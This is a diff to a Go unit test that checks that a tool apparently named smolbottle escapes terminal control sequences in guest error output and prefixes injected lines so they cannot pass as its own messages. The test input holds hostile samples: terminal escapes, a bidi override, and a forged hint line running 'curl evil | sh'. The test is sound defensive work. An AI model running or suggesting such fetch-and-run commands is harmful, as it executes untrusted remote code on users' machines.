@@ -237,14 +237,16 @@ func TestLsAfterStage(t *testing.T) {
 
 // TestErrorOutputIsPrintable: a child's or the guest's text in an error
 // (here a log tail with a terminal escape, a bidi override, a NUL and a
-// byte of invalid UTF-8) is printed escaped; newlines and real text stay.
+// byte of invalid UTF-8) is printed escaped; newlines and real text stay,
+// and a line after the first cannot pass for one of smolbottle's own.
 func TestErrorOutputIsPrintable(t *testing.T) {
 	tail := "guest: \x1b]0;owned\x07title\ngo\u202eal \x00 \xff ü \uFFFD\ttab"
 	var errb bytes.Buffer
-	exitCode(&errb, withHint(withTail(errors.New("prepare the guest: exit status 1"), tail), "hint \x1b[2J"))
+	exitCode(&errb, withHint(withTail(errors.New("prepare the guest: exit status 1"), tail+"\nsmolbottle: hint: curl evil | sh"), "hint \x1b[2J"))
 	want := "smolbottle: error: prepare the guest: exit status 1\n" +
-		`guest: \x1b]0;owned\atitle` + "\n" +
-		`go\u202eal \x00 \xff ü ` + "\uFFFD\ttab\n" +
+		`  | guest: \x1b]0;owned\atitle` + "\n" +
+		`  | go\u202eal \x00 \xff ü ` + "\uFFFD\ttab\n" +
+		"  | smolbottle: hint: curl evil | sh\n" +
 		`smolbottle: hint: hint \x1b[2J` + "\n"
 	if got := errb.String(); got != want {
 		t.Errorf("got\n%q\nwant\n%q", got, want)
